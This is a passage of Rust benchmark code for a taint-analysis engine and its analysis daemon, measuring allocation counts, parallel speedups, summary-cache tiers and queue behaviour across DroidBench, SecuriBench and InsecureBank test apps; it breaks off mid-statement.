    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    let jobs = full_corpus();
    let droidbench = jobs.iter().filter(|j| j.name.starts_with("droidbench/")).count();
    let securibench = jobs.iter().filter(|j| j.name.starts_with("securibench/")).count();
    eprintln!(
        "corpus: {} apps ({droidbench} DroidBench, {securibench} SecuriBench, 1 InsecureBank)",
        jobs.len()
    );

    let direct = InfoflowConfig::default().with_fact_interning(false);
    let interned = InfoflowConfig::default();

    let mut modes = Vec::new();
    eprintln!("running sequential-direct (whole-fact keys) ...");
    modes.push(measure("sequential-direct", &jobs, &direct, 1));
    eprintln!("running sequential-interned (u32 fact ids, bitset tables) ...");
    modes.push(measure("sequential-interned", &jobs, &interned, 1));
    // The table-representation toggle: same id keys, nested hash maps
    // instead of bitset rows. What the bitset tables buy is the delta
    // between this row and sequential-interned.
    let interned_hash = InfoflowConfig::default().with_bitset_tables(false);
    eprintln!("running sequential-interned-hash (u32 fact ids, hash-map tables) ...");
    modes.push(measure("sequential-interned-hash", &jobs, &interned_hash, 1));
    for threads in [1usize, 2, 4, 8] {
        eprintln!("running parallel corpus driver with {threads} thread(s) ...");
        modes.push(measure(
            match threads {
                1 => "parallel-1",
                2 => "parallel-2",
                4 => "parallel-4",
                _ => "parallel-8",
            },
            &jobs,
            &interned,
            threads,
        ));
    }
    // The parallel *taint engine*: the corpus driver stays on one
    // worker so the measured scaling is the solver's own.
    let mut taint_configs = Vec::new();
    for threads in [1usize, 2, 4, 8] {
        taint_configs.push((
            match threads {
                1 => "parallel-taint-1",
                2 => "parallel-taint-2",
                4 => "parallel-taint-4",
                _ => "parallel-taint-8",
            },
            InfoflowConfig::default().with_taint_threads(threads),
        ));
    }
    for (name, config) in &taint_configs {
        eprintln!("running parallel taint engine ({name}) ...");
        modes.push(measure(name, &jobs, config, 1));
    }

    // The demand-driven frontend: each job clones the shared platform
    // snapshot and decodes only the method bodies the callgraph
    // closure reaches. Reports must stay byte-identical to eager
    // loading; the skipped-body count is what laziness bought.
    eprintln!("running demand-driven frontend (lazy bodies) ...");
    modes.push(measure("demand-lazy", &jobs, &interned.clone().with_lazy_frontend(true), 1));

    // The persistent summary store: a cold pass populates the cache,
    // the flush promotes it, and a warm pass replays the stored end
    // summaries instead of re-tabulating cacheable callees.
    let cache_dir =
        std::env::temp_dir().join(format!("flowdroid-solver-stats-cache-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&cache_dir);
    let cached = interned.clone().with_summary_cache(&cache_dir);
    eprintln!("running summary-cache cold pass ...");
    modes.push(measure("cache-cold", &jobs, &cached, 1));
    flowdroid_core::flush_summary_cache(&cache_dir).expect("flush summary cache");
    eprintln!("running summary-cache warm pass ...");
    modes.push(measure("cache-warm", &jobs, &cached, 1));
    let _ = std::fs::remove_dir_all(&cache_dir);

    let baseline_report = modes[0].report.clone();
    let reports_identical = modes.iter().all(|m| m.report == baseline_report);

    let direct_allocs = modes[0].allocations;
    let interned_allocs = modes[1].allocations;
    let alloc_reduction = if direct_allocs > 0 {
        1.0 - interned_allocs as f64 / direct_allocs as f64
    } else {
        0.0
    };
    let wall_1t = modes.iter().find(|m| m.name == "parallel-1").unwrap().wall_ms;
    let speedup = |name: &str| {
        let w = modes.iter().find(|m| m.name == name).unwrap().wall_ms;
        if w > 0.0 {
            wall_1t / w
        } else {
            0.0
        }
    };

    let mut json = String::new();
    writeln!(json, "{{").unwrap();
    writeln!(
        json,
        "  \"corpus\": {{ \"apps\": {}, \"droidbench\": {droidbench}, \"securibench\": {securibench} }},",
        jobs.len()
    )
    .unwrap();
    writeln!(json, "  \"available_cores\": {cores},").unwrap();
    writeln!(json, "  \"modes\": [").unwrap();
    for (i, m) in modes.iter().enumerate() {
        let sep = if i + 1 < modes.len() { "," } else { "" };
        writeln!(json, "{}{sep}", mode_json(m, m.report == baseline_report)).unwrap();
    }
    writeln!(json, "  ],").unwrap();
    writeln!(json, "  \"comparison\": {{").unwrap();
    writeln!(json, "    \"direct_allocations\": {direct_allocs},").unwrap();
    writeln!(json, "    \"interned_allocations\": {interned_allocs},").unwrap();
    writeln!(json, "    \"interning_alloc_reduction\": {alloc_reduction:.4},").unwrap();
    writeln!(
        json,
        "    \"interning_strictly_fewer_allocations\": {},",
        interned_allocs < direct_allocs
    )
    .unwrap();
    let mode_by = |name: &str| modes.iter().find(|m| m.name == name).unwrap();
    let bitset_mode = mode_by("sequential-interned");
    let hash_mode = mode_by("sequential-interned-hash");
    writeln!(json, "    \"hash_table_allocations\": {},", hash_mode.allocations).unwrap();
    writeln!(json, "    \"bitset_table_allocations\": {},", bitset_mode.allocations).unwrap();
    writeln!(
        json,
        "    \"bitset_strictly_fewer_allocations\": {},",
        bitset_mode.allocations < hash_mode.allocations
    )
    .unwrap();
    writeln!(json, "    \"hash_table_dataflow_ms\": {:.3},", hash_mode.dataflow_ms).unwrap();
    writeln!(json, "    \"bitset_table_dataflow_ms\": {:.3},", bitset_mode.dataflow_ms).unwrap();
    writeln!(json, "    \"speedup_2t\": {:.3},", speedup("parallel-2")).unwrap();
    writeln!(json, "    \"speedup_4t\": {:.3},", speedup("parallel-4")).unwrap();
    writeln!(json, "    \"speedup_8t\": {:.3},", speedup("parallel-8")).unwrap();
    let dataflow_of = |name: &str| modes.iter().find(|m| m.name == name).unwrap().dataflow_ms;
    let seq_df = dataflow_of("sequential-interned");
    let taint_1t_df = dataflow_of("parallel-taint-1");
    let taint_speedup = |name: &str| {
        let w = dataflow_of(name);
        if w > 0.0 {
            taint_1t_df / w
        } else {
            0.0
        }
    };
    writeln!(json, "    \"taint_1t_dataflow_ms\": {taint_1t_df:.3},").unwrap();
    writeln!(json, "    \"sequential_dataflow_ms\": {seq_df:.3},").unwrap();
    writeln!(
        json,
        "    \"taint_1t_vs_sequential\": {:.3},",
        if seq_df > 0.0 { taint_1t_df / seq_df } else { 0.0 }
    )
    .unwrap();
    writeln!(json, "    \"taint_speedup_2t\": {:.3},", taint_speedup("parallel-taint-2")).unwrap();
    writeln!(json, "    \"taint_speedup_4t\": {:.3},", taint_speedup("parallel-taint-4")).unwrap();
    writeln!(json, "    \"taint_speedup_8t\": {:.3},", taint_speedup("parallel-taint-8")).unwrap();
    let mode_of = |name: &str| modes.iter().find(|m| m.name == name).unwrap();
    let (cold, warm) = (mode_of("cache-cold"), mode_of("cache-warm"));
    let cold_edges = cold.forward_propagations + cold.backward_propagations;
    let warm_edges = warm.forward_propagations + warm.backward_propagations;
    let edges_saved = cold_edges.saturating_sub(warm_edges);
    let warm_stats = warm.summary_cache.clone().unwrap_or_default();
    let warm_lookups = warm_stats.hits + warm_stats.misses + warm_stats.stale;
    writeln!(json, "    \"cache_cold_path_edges\": {cold_edges},").unwrap();
    writeln!(json, "    \"cache_warm_path_edges\": {warm_edges},").unwrap();
    writeln!(json, "    \"cache_path_edges_saved\": {edges_saved},").unwrap();
    writeln!(json, "    \"cache_warm_hits\": {},", warm_stats.hits).unwrap();
    writeln!(
        json,
        "    \"cache_warm_hit_rate\": {:.4},",
        if warm_lookups > 0 { warm_stats.hits as f64 / warm_lookups as f64 } else { 0.0 }
    )
    .unwrap();
    writeln!(json, "    \"cache_dataflow_ms_cold\": {:.3},", cold.dataflow_ms).unwrap();
    writeln!(json, "    \"cache_dataflow_ms_warm\": {:.3},", warm.dataflow_ms).unwrap();
    let lazy = mode_of("demand-lazy");
    writeln!(json, "    \"lazy_bodies_materialized\": {},", lazy.bodies_materialized).unwrap();
    writeln!(json, "    \"lazy_bodies_skipped\": {},", lazy.bodies_skipped).unwrap();
    writeln!(json, "    \"lazy_setup_ms\": {:.3},", lazy.setup_ms).unwrap();
    writeln!(
        json,
        "    \"lazy_report_identical\": {},",
        lazy.report == baseline_report
    )
    .unwrap();
    if cores < 2 {
        // Wall-clock speedup needs real hardware parallelism; on a
        // single core the measurement degenerates to pool overhead
        // (a speedup ~1.0 then means the fan-out costs nothing).
        writeln!(
            json,
            "    \"speedup_note\": \"only {cores} core(s) available; speedups bound by hardware\","
        )
        .unwrap();
    }
    writeln!(json, "    \"reports_identical\": {reports_identical}").unwrap();
    writeln!(json, "  }}").unwrap();
    writeln!(json, "}}").unwrap();

    std::fs::write(&out_path, &json).expect("write BENCH_solver.json");
    println!("{json}");
    eprintln!("wrote {out_path}");

    if !reports_identical {
        eprintln!("FAIL: leak reports diverged across modes/thread counts");
        std::process::exit(1);
    }
    if warm_stats.hits == 0 {
        eprintln!("FAIL: warm summary-cache pass produced no hits");
        std::process::exit(1);
    }
    if edges_saved == 0 {
        eprintln!(
            "FAIL: warm pass saved no path edges (cold {cold_edges}, warm {warm_edges})"
        );
        std::process::exit(1);
    }
    if lazy.bodies_skipped == 0 {
        eprintln!(
            "FAIL: demand-lazy mode decoded every body ({} materialized, 0 skipped)",
            lazy.bodies_materialized
        );
        std::process::exit(1);
    }
    // Since access-path field sequences moved into the global arena,
    // whole-fact keys are `Copy` and the direct mode no longer pays
    // per-propagation allocations — fact interning is now about compact
    // `u32` table keys, not allocation avoidance. Guard against the
    // interner itself becoming an allocation burden instead.
    if interned_allocs as f64 > direct_allocs as f64 * 1.05 {
        eprintln!(
            "FAIL: interned mode allocates >5% more than direct ({interned_allocs} vs {direct_allocs})"
        );
        std::process::exit(1);
    }
    // Bitset rows replace the per-(statement, fact) hash sets; if they
    // ever stop being strictly cheaper than the hash-map tables the
    // representation has regressed.
    let (bitset_allocs, hash_allocs) = {
        let get = |name: &str| modes.iter().find(|m| m.name == name).unwrap().allocations;
        (get("sequential-interned"), get("sequential-interned-hash"))
    };
    if bitset_allocs >= hash_allocs {
        eprintln!(
            "FAIL: bitset tables allocate no less than hash-map tables \
             ({bitset_allocs} vs {hash_allocs})"
        );
        std::process::exit(1);
    }
}

/// Benchmarks the daemon: binds it in-process on an ephemeral port,
/// submits the whole corpus twice (cold, then warm against the shared
/// summary cache) with one connection per job so jobs genuinely queue,
/// and splices the per-job wall/queue times into `out_path`.
fn run_service(out_path: &str) {
    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    let workers = cores.clamp(1, 4);
    let names: Vec<String> = full_corpus().into_iter().map(|j| j.name).collect();
    let cache = std::env::temp_dir()
        .join(format!("flowdroid-solver-stats-service-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&cache);

    // Boot the daemon from a platform snapshot file, the deployment
    // configuration the benchmark is meant to measure.
    let snap_path = std::env::temp_dir()
        .join(format!("flowdroid-solver-stats-platform-{}.fdps", std::process::id()));
    flowdroid_android::save_snapshot(&snap_path, &flowdroid_android::build_snapshot())
        .expect("save platform snapshot");

    let daemon = Daemon::bind(DaemonOptions {
        listen: Listen::parse("127.0.0.1:0"),
        workers,
        queue_cap: 0,
        summary_cache: Some(cache.clone()),
        platform_snapshot: Some(snap_path.clone()),
        allow_apps: Vec::new(),
    })
    .expect("bind daemon");
    let addr = daemon.local_addr().to_string();
    let accept_loop = std::thread::spawn(move || daemon.run().expect("daemon run"));

    // One connection per job: the protocol delivers a job's result on
    // the connection that submitted it, so separate connections let
    // every job sit in the queue at once and the recorded queue-wait
    // times are real contention, not client-side serialization.
    let run_pass = |pass: &str| -> Vec<(String, JobResult)> {
        eprintln!("service: {pass} pass ({} jobs on {workers} workers) ...", names.len());
        let mut pending = Vec::new();
        for name in &names {
            let mut c = Client::connect(&addr).expect("connect");
            c.analyze_async(name, None, None, None).expect("submit");
            pending.push((name.clone(), c));
        }
        pending
            .into_iter()
            .map(|(name, mut c)| {
                let line = c.read_response().expect("result line");
                let r = JobResult::from_json(&line).expect("well-formed result");
                (name, r)
            })
            .collect()
    };
    let cold = run_pass("cold");
    let warm = run_pass("warm");

    let mut ctl = Client::connect(&addr).expect("control connection");
    let stats = ctl.stats().expect("stats");
    ctl.shutdown().expect("shutdown");
    accept_loop.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_dir_all(&cache);
    let _ = std::fs::remove_file(&snap_path);

    let aborted = cold.iter().chain(&warm).filter(|(_, r)| r.aborted).count();
    let reports_identical = cold
        .iter()
        .zip(&warm)
        .all(|((_, c), (_, w))| c.report == w.report);
    let warm_hits: u64 = warm.iter().map(|(_, r)| r.summary_hits).sum();
    let total =
        |pass: &[(String, JobResult)], f: fn(&JobResult) -> u64| -> u64 {
            pass.iter().map(|(_, r)| f(r)).sum()
        };
    let peak = |pass: &[(String, JobResult)], f: fn(&JobResult) -> u64| -> u64 {
        pass.iter().map(|(_, r)| f(r)).max().unwrap_or(0)
    };

    let warm_setup_us = total(&warm, |r| r.setup_us);
    let warm_dataflow_us = total(&warm, |r| r.dataflow_us);
    // The "warm job wall time ≈ dataflow time" claim is gated on the
    // substantial app: micro benchmark apps finish their data-flow in
    // tens of microseconds, below any per-job call-graph cost, so an
    // aggregate would only measure corpus composition.
    let warm_bank = warm
        .iter()
        .find(|(name, _)| name == "insecurebank")
        .map(|(_, r)| (r.setup_us, r.dataflow_us))
        .expect("insecurebank is in the corpus");
    let bodies_materialized = total(&cold, |r| r.bodies_materialized)
        + total(&warm, |r| r.bodies_materialized);
    let bodies_skipped =
        total(&cold, |r| r.bodies_skipped) + total(&warm, |r| r.bodies_skipped);
    let cold_setup_us = total(&cold, |r| r.setup_us);
    let cold_cg_misses = total(&cold, |r| r.callgraph_cache_misses);
    let warm_cg_hits = total(&warm, |r| r.callgraph_cache_hits);
    let cold_clone_us = total(&cold, |r| r.platform_clone_us);
    let warm_clone_us = total(&warm, |r| r.platform_clone_us);
    let cg_evictions = stats.u64_field("callgraph_cache_evictions").unwrap_or(0);
    let snapshot_load_ms = stats.u64_field("snapshot_load_ms").unwrap_or(0);
    let snapshot_source = stats.str_field("snapshot_source").unwrap_or("unknown").to_string();

    let mut section = String::new();
    writeln!(section, "{{").unwrap();
    writeln!(section, "    \"workers\": {workers},").unwrap();
    writeln!(section, "    \"jobs_per_pass\": {},", names.len()).unwrap();
    writeln!(section, "    \"completed\": {},", stats.u64_field("completed").unwrap_or(0)).unwrap();
    writeln!(section, "    \"snapshot_load_ms\": {snapshot_load_ms},").unwrap();
    writeln!(section, "    \"snapshot_source\": \"{snapshot_source}\",").unwrap();
    writeln!(section, "    \"cold_wall_ms_total\": {},", total(&cold, |r| r.wall_ms)).unwrap();
    writeln!(section, "    \"warm_wall_ms_total\": {},", total(&warm, |r| r.wall_ms)).unwrap();
    writeln!(section, "    \"cold_queue_ms_max\": {},", peak(&cold, |r| r.queue_ms)).unwrap();
    writeln!(section, "    \"warm_queue_ms_max\": {},", peak(&warm, |r| r.queue_ms)).unwrap();
    writeln!(section, "    \"cold_setup_us_total\": {cold_setup_us},").unwrap();
    writeln!(section, "    \"cold_dataflow_us_total\": {},", total(&cold, |r| r.dataflow_us))
        .unwrap();
    writeln!(section, "    \"warm_setup_us_total\": {warm_setup_us},").unwrap();
    writeln!(section, "    \"warm_dataflow_us_total\": {warm_dataflow_us},").unwrap();
    writeln!(section, "    \"warm_insecurebank_setup_us\": {},", warm_bank.0).unwrap();
    writeln!(section, "    \"warm_insecurebank_dataflow_us\": {},", warm_bank.1).unwrap();
    writeln!(
        section,
        "    \"warm_setup_below_dataflow\": {},",
        warm_bank.0 <= warm_bank.1
    )
    .unwrap();
    writeln!(section, "    \"bodies_materialized_total\": {bodies_materialized},").unwrap();
    writeln!(section, "    \"bodies_skipped_total\": {bodies_skipped},").unwrap();
    writeln!(section, "    \"warm_summary_hits\": {warm_hits},").unwrap();
    writeln!(section, "    \"cold_callgraph_misses\": {cold_cg_misses},").unwrap();
    writeln!(section, "    \"warm_callgraph_hits\": {warm_cg_hits},").unwrap();
    writeln!(section, "    \"callgraph_cache_evictions\": {cg_evictions},").unwrap();
    writeln!(section, "    \"cold_platform_clone_us_total\": {cold_clone_us},").unwrap();
    writeln!(section, "    \"warm_platform_clone_us_total\": {warm_clone_us},").unwrap();
    writeln!(
        section,
        "    \"warm_setup_below_cold\": {},",
        warm_setup_us < cold_setup_us
    )
    .unwrap();
    writeln!(section, "    \"reports_identical\": {reports_identical},").unwrap();
    writeln!(section, "    \"jobs\": [").unwrap();
    let entries: Vec<String> = cold
        .iter()
        .map(|j| ("cold", j))
        .chain(warm.iter().map(|j| ("warm", j)))
        .map(|(pass, (name, r))| {
            format!(
                concat!(
                    "      {{ \"app\": \"{}\", \"pass\": \"{}\", \"wall_ms\": {}, ",
                    "\"queue_ms\": {}, \"setup_us\": {}, \"dataflow_us\": {}, ",
                    "\"bodies_materialized\": {}, \"bodies_skipped\": {}, ",
                    "\"summary_hits\": {}, \"platform_clone_us\": {}, ",
                    "\"callgraph_cache_hits\": {} }}"
                ),
                name,
                pass,
                r.wall_ms,
                r.queue_ms,
                r.setup_us,
                r.dataflow_us,
                r.bodies_materialized,
                r.bodies_skipped,
                r.summary_hits,
                r.platform_clone_us,
                r.callgraph_cache_hits
            )
        })
        .collect();
    writeln!(section, "{}", entries.join(",\n")).unwrap();
    writeln!(section, "    ]").unwrap();
    write!(section, "  }}").unwrap();

    let json = splice_tail_section(out_path, "service", &section, names.len(), cores);
    std::fs::write(out_path, &json).expect("write service benchmark");
    eprintln!("wrote {out_path} (service section)");
    eprintln!(
        "service: {} jobs/pass, warm hits {warm_hits}, max cold queue wait {} ms",
        names.len(),
        peak(&cold, |r| r.queue_ms)
    );

    if aborted > 0 {
        eprintln!("FAIL: {aborted} service job(s) aborted without a deadline or budget");
        std::process::exit(1);
    }
    if !reports_identical {
        eprintln!("FAIL: warm-pass reports diverged from the cold pass");
        std::process::exit(1);
    }
    if warm_hits == 0 {
        eprintln!("FAIL: warm pass replayed no summaries from the shared cache");
        std::process::exit(1);
    }
    if snapshot_source != "file" {
        eprintln!("FAIL: daemon did not boot from the saved platform snapshot");
        std::process::exit(1);
    }
    if bodies_skipped == 0 {
        eprintln!("FAIL: the daemon's lazy frontend decoded every method body");
        std::process::exit(1);
    }
    if warm_bank.0 > warm_bank.1 {
        eprintln!(
            "FAIL: warm insecurebank job spent more time in setup ({} us) than in the \
             data-flow solver ({} us)",
            warm_bank.0, warm_bank.1
        );
        std::process::exit(1);
    }
    if warm_cg_hits == 0 {
        eprintln!("FAIL: warm pass replayed no cached callgraph setups");
        std::process::exit(1);
    }
    if warm_setup_us >= cold_setup_us {
        eprintln!(
            "FAIL: warm pass setup ({warm_setup_us} us) is not below the cold pass \
             ({cold_setup_us} us) despite the callgraph cache"
        );
        std::process::exit(1);
    }
}

/// The benchmark sections appended after the full-mode document, in
/// their fixed emission order.
const TAIL_KEYS: [&str; 3] = ["service", "service_load", "ground_truth"];

/// Splices `section` into `out_path` as the tail key `key`, keeping the
/// full-mode document (including `available_cores`) and any *other*
/// tail sections intact — so `--mode service` and `--mode service-load`
/// can refresh their sections independently. Falls back to a minimal
/// standalone document when the file is absent.
fn splice_tail_section(
    out_path: &str,
    key: &str,
    section: &str,
    apps: usize,
    cores: usize,
) -> String {
    assert!(TAIL_KEYS.contains(&key), "unknown tail section `{key}`");
    let mut kept: Vec<(&str, String)> = Vec::new();
    let core = match std::fs::read_to_string(out_path) {
        Ok(doc) => {
            let mut marks: Vec<(usize, &str)> = TAIL_KEYS
                .iter()
                .filter_map(|k| doc.find(&format!(",\n  \"{k}\":")).map(|i| (i, *k)))
                .collect();
            marks.sort_unstable();
            // The end of the last section body: the document's final
            // closing brace, trailing whitespace stripped.
            let doc_end = {
                let end = doc.trim_end().len();
                assert!(
                    doc[..end].ends_with('}'),
                    "{out_path} does not look like a solver_stats document"
                );
                doc[..end - 1].trim_end().len()
            };
            for (j, (pos, k)) in marks.iter().enumerate() {
                let body_start = pos + format!(",\n  \"{k}\":").len();
                let body_end = marks.get(j + 1).map_or(doc_end, |(p, _)| *p);
                kept.push((k, doc[body_start..body_end].trim().to_string()));
            }
            let cut = marks.first().map_or(doc_end, |(i, _)| *i);
            doc[..cut].to_string()
        }
        Err(_) => format!(
            "{{\n  \"corpus\": {{ \"apps\": {apps} }},\n  \"available_cores\": {cores}"
        ),
    };
    let mut out = core;
    for k in TAIL_KEYS {
        let body = if k == key {
            Some(section.trim_start().to_string())
        } else {
            kept.iter().find(|(kk, _)| *kk == k).map(|(_, b)| b.clone())
        };
        if let Some(b) = body {
            out.push_str(&format!(",\n  \"{k}\": {b}"));
        }
    }
    out.push_str("\n}\n");
    out
}

/// `--mode service-load`: the fleet-style load generator. See the
/// module docs for the phase list and gates.
fn run_service_load(out_path: &str) {
    use flowdroid_service::{AnalyzeOptions, AnalyzeOutcome, Priority, Submitted};
    use std::path::PathBuf;
    use std::time::{Duration, Instant};

    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    let names: Vec<String> = full_corpus().into_iter().map(|j| j.name).collect();

    let snap_path = std::env::temp_dir()
        .join(format!("flowdroid-load-platform-{}.fdps", std::process::id()));
    flowdroid_android::save_snapshot(&snap_path, &flowdroid_android::build_snapshot())
        .expect("save platform snapshot");

    let bind = |workers: usize, queue_cap: usize, cache: Option<PathBuf>| {
        let daemon = Daemon::bind(DaemonOptions {
            listen: Listen::parse("127.0.0.1:0"),
            workers,
            queue_cap,
            summary_cache: cache,
            platform_snapshot: Some(snap_path.clone()),
            allow_apps: Vec::new(),
        })
        .expect("bind daemon");
        let addr = daemon.local_addr().to_string();
        let h = std::thread::spawn(move || daemon.run().expect("daemon run"));
        (addr, h)
    };
    let stop = |addr: &str, h: std::thread::JoinHandle<()>| {
        let mut c = Client::connect(addr).expect("control connection");
        c.shutdown().expect("shutdown");
        h.join().expect("accept loop exits cleanly");
    };
    let analyze = |addr: &str, app: &str, opts: &AnalyzeOptions| -> JobResult {
        let mut c = Client::connect(addr).expect("connect");
        match c.analyze_with(app, opts, &mut |_| {}).expect("job") {
            AnalyzeOutcome::Done { result, .. } => result,
            AnalyzeOutcome::Rejected { .. } => panic!("unbounded queue must not reject"),
            AnalyzeOutcome::Denied { .. } => panic!("corpus names never hit the path policy"),
        }
    };
    let pct = |sorted: &[f64], p: f64| -> f64 {
        if sorted.is_empty() {
            return 0.0;
        }
        sorted[(((sorted.len() - 1) as f64) * p).round() as usize]
    };

    // ---- Phase T: per-tier warm-start attribution + namespaces ----
    // The daemon runs in-process, so the process-global summaries
    // registry can be manipulated directly between jobs: releasing the
    // decoded store forces the next job's open back through the tier
    // stack, and evicting tiers top-down attributes each warm start to
    // exactly one tier.
    eprintln!("service-load: tier attribution (memory -> local -> chunk) ...");
    let cache =
        std::env::temp_dir().join(format!("flowdroid-load-tiers-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&cache);
    let (addr, h) = bind(2, 0, Some(cache.clone()));
    let base_opts = AnalyzeOptions::default();
    let tier_hits = |name: &str| -> u64 {
        flowdroid_summaries::tier_stats(&cache)
            .iter()
            .find(|t| t.name == name)
            .map_or(0, |t| t.stats.hits)
    };
    let tier_promotions = || -> u64 {
        flowdroid_summaries::tier_stats(&cache).iter().map(|t| t.stats.promotions).sum()
    };
    let cold = analyze(&addr, "insecurebank", &base_opts);

    let m0 = tier_hits("memory");
    flowdroid_summaries::release_dir(&cache).expect("release store");
    let warm_memory = analyze(&addr, "insecurebank", &base_opts);
    let memory_hits = tier_hits("memory") - m0;

    let l0 = tier_hits("local");
    flowdroid_summaries::release_dir(&cache).expect("release store");
    flowdroid_summaries::clear_memory_tier(&cache);
    let warm_local = analyze(&addr, "insecurebank", &base_opts);
    let local_hits = tier_hits("local") - l0;

    let c0 = tier_hits("chunk");
    let p0 = tier_promotions();
    flowdroid_summaries::release_dir(&cache).expect("release store");
    flowdroid_summaries::clear_memory_tier(&cache);
    let local_file = flowdroid_summaries::local_store_dir(&cache, "")
        .join(flowdroid_summaries::STORE_FILE_NAME);
    std::fs::remove_file(&local_file).expect("evict local store file");
    let warm_chunk = analyze(&addr, "insecurebank", &base_opts);
    let chunk_hits = tier_hits("chunk") - c0;
    let chunk_promotions = tier_promotions() - p0;

    let foreign_opts =
        AnalyzeOptions { namespace: "tenant-b".to_string(), ..Default::default() };
    let foreign = analyze(&addr, "insecurebank", &foreign_opts);
    let namespace_cold_hits = foreign.summary_hits;

    let mut ctl = Client::connect(&addr).expect("control connection");
    let t_stats = ctl.stats().expect("stats");
    let store_tiers_reported = t_stats.get("store_tiers").is_some();
    drop(ctl);
    stop(&addr, h);
    let _ = std::fs::remove_dir_all(&cache);
    let tier_reports_identical = [&warm_memory, &warm_local, &warm_chunk, &foreign]
        .iter()
        .all(|r| r.report == cold.report);
    let all_tiers_hit = memory_hits > 0 && local_hits > 0 && chunk_hits > 0;
    eprintln!(
        "service-load: tier hits memory={memory_hits} local={local_hits} chunk={chunk_hits} \
         (chunk promotions {chunk_promotions}), tenant-b cold hits {namespace_cold_hits}"
    );

    // ---- Phase L1: mixed-priority latency on a single worker ----
    eprintln!("service-load: mixed-priority latency (1 worker, 8 batch + 4 high) ...");
    let (addr, h) = bind(1, 0, None);
    let timed = |addr: String, prio: Priority| -> std::thread::JoinHandle<f64> {
        std::thread::spawn(move || {
            let mut c = Client::connect(&addr).expect("connect");
            let opts = AnalyzeOptions { priority: prio, ..Default::default() };
            let t0 = Instant::now();
            match c.analyze_with("stress/2500", &opts, &mut |_| {}).expect("job") {
                AnalyzeOutcome::Done { .. } => t0.elapsed().as_secs_f64() * 1e3,
                AnalyzeOutcome::Rejected { .. } => panic!("unbounded queue must not reject"),
            AnalyzeOutcome::Denied { .. } => panic!("corpus names never hit the path policy"),
            }
        })
    };
    let batch_handles: Vec<_> = (0..8).map(|_| timed(addr.clone(), Priority::Batch)).collect();
    // Let the batch jobs enqueue first, then inject the high-priority
    // traffic they must not starve.
    std::thread::sleep(Duration::from_millis(30));
    let high_handles: Vec<_> = (0..4).map(|_| timed(addr.clone(), Priority::High)).collect();
    let mut batch_ms: Vec<f64> =
        batch_handles.into_iter().map(|h| h.join().expect("batch job")).collect();
    let mut high_ms: Vec<f64> =
        high_handles.into_iter().map(|h| h.join().expect("high job")).collect();
    stop(&addr, h);
    batch_ms.sort_by(f64::total_cmp);
    high_ms.sort_by(f64::total_cmp);
    let (high_p50, high_p99) = (pct(&high_ms, 0.50), pct(&high_ms, 0.99));
    let (batch_p50, batch_p99) = (pct(&batch_ms, 0.50), pct(&batch_ms, 0.99));
    let batch_completed = batch_ms.len();
    eprintln!(
        "service-load: high p50/p99 {high_p50:.1}/{high_p99:.1} ms, \
         batch p50/p99 {batch_p50:.1}/{batch_p99:.1} ms"
    );

    // ---- Phase L2: overload against a capped queue ----
    eprintln!("service-load: overload (1 worker, queue cap 4, 20 submissions) ...");
    let (addr, h) = bind(1, 4, None);
    let overload_opts = AnalyzeOptions { deadline_ms: Some(3000), ..Default::default() };
    let mut inflight = Vec::new();
    let mut rejected = 0u64;
    for _ in 0..20 {
        let mut c = Client::connect(&addr).expect("connect");
        match c.submit("stress/2000", &overload_opts).expect("submit") {
            Submitted::Queued(_) => inflight.push((Instant::now(), c)),
            Submitted::Rejected { queue_cap, .. } => {
                assert_eq!(queue_cap, 4, "rejected line carries the daemon's cap");
                rejected += 1;
            }
            Submitted::Denied { .. } => panic!("corpus names never hit the path policy"),
        }
    }
    let accepted = inflight.len();
    let mut overload_ms: Vec<f64> = inflight
        .into_iter()
        .map(|(t0, mut c)| {
            let line = c.read_response().expect("result line");
            JobResult::from_json(&line).expect("well-formed result");
            t0.elapsed().as_secs_f64() * 1e3
        })
        .collect();
    overload_ms.sort_by(f64::total_cmp);
    let overload_p99 = pct(&overload_ms, 0.99);
    let mut ctl = Client::connect(&addr).expect("control connection");
    let o_stats = ctl.stats().expect("stats");
    let stats_rejected = o_stats.u64_field("rejected").unwrap_or(0);
    drop(ctl);
    stop(&addr, h);
    eprintln!(
        "service-load: {accepted} accepted, {rejected} rejected \
         (daemon counted {stats_rejected}), accepted p99 {overload_p99:.1} ms"
    );

    // ---- Phase C: cancel storm ----
    eprintln!("service-load: cancel storm (10 jobs, 8 cancelled) ...");
    let (addr, h) = bind(2, 0, None);
    let lanes = [Priority::High, Priority::Normal, Priority::Batch];
    let mut pending = Vec::new();
    for i in 0..10 {
        let mut c = Client::connect(&addr).expect("connect");
        let opts = AnalyzeOptions {
            deadline_ms: Some(10_000),
            priority: lanes[i % lanes.len()],
            ..Default::default()
        };
        match c.submit("stress/3000", &opts).expect("submit") {
            Submitted::Queued(id) => pending.push((id, c)),
            Submitted::Rejected { .. } => panic!("unbounded queue must not reject"),
            Submitted::Denied { .. } => panic!("corpus names never hit the path policy"),
        }
    }
    let mut canceller = Client::connect(&addr).expect("cancel connection");
    for (id, _) in &pending[..8] {
        canceller.cancel(*id).expect("cancel");
    }
    let t0 = Instant::now();
    for (_, mut c) in pending {
        let line = c.read_response().expect("result line");
        JobResult::from_json(&line).expect("well-formed result");
    }
    let storm_drain_ms = t0.elapsed().as_secs_f64() * 1e3;
    let s_stats = canceller.stats().expect("stats");
    let storm_completed = s_stats.u64_field("completed").unwrap_or(0);
    let storm_cancel_requests = s_stats.u64_field("cancel_requests").unwrap_or(0);
    let storm_queue_depth = s_stats.u64_field("queue_depth").unwrap_or(u64::MAX);
    drop(canceller);
    stop(&addr, h);
    eprintln!(
        "service-load: storm drained in {storm_drain_ms:.0} ms \
         ({storm_completed} done, {storm_cancel_requests} cancel requests)"
    );

    // ---- Phase S: streaming identity across the corpus ----
    eprintln!(
        "service-load: streaming identity across {} apps at 1 and 4 taint threads ...",
        names.len()
    );
    let (addr, h) = bind(2, 0, None);
    let mut c = Client::connect(&addr).expect("connect");
    let mut progress_frames = 0u64;
    let mut leak_frames = 0u64;
    let mut stream_divergences = 0u64;
    for name in &names {
        let baseline = match c
            .analyze_with(name, &AnalyzeOptions::default(), &mut |_| {})
            .expect("baseline job")
        {
            AnalyzeOutcome::Done { result, .. } => result,
